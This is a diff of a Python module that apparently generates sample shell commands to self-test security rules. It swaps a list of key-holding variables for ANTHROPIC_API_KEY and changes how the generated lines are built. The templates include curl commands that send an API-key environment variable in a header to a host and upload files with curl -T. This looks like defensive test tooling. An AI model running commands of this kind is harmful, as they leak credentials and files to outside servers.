@@ -11,8 +11,8 @@ FILL = "selftest"
 """What stands for a star."""
 _KEY = "ghp_" + "a1B2c3D4e5F6g7H8i9J0" * 2
 """Looks like a key, and is none."""
-_VARIABLES = ("GITHUB_TOKEN", "ANTHROPIC_API_KEY")
-"""Variables that hold a key."""
+_KEY_VARIABLE = "ANTHROPIC_API_KEY"
+"""A variable that holds a key."""
 _PATHS = ("sends", "deletes", "writes", "given", "paths")
 _MOST = 200
 """Calls that are made up for one rule, at most."""
@@ -66,15 +66,14 @@ def _lines(part: dict[str, str], path: str) -> Iterator[str]:
     """Shell lines that hold all of it."""
     host, text = part.get("hosts", ""), part.get("contents", "")
     command = part.get("commands", "")
+    if "variables" in part:
+        for name in (part["variables"], _KEY_VARIABLE):
+            yield f'curl -H "x: ${name}" https://{host or FILL}/'
     if command:
         yield " ".join(each for each in (command, path, host) if each)
         if text:
             yield f"{command} -c '{text}'"
             yield f"{command} '{text}'"
-    elif "variables" in part:
-        name, _, to = part["variables"].partition(" to ")
-        for variable in (name, *_VARIABLES):
-            yield f"curl -d ${variable} https://{to or host or FILL}/"
     elif "sends" in part:
         yield f"curl -T {path} https://{host or FILL}/"
     elif "deletes" in part:
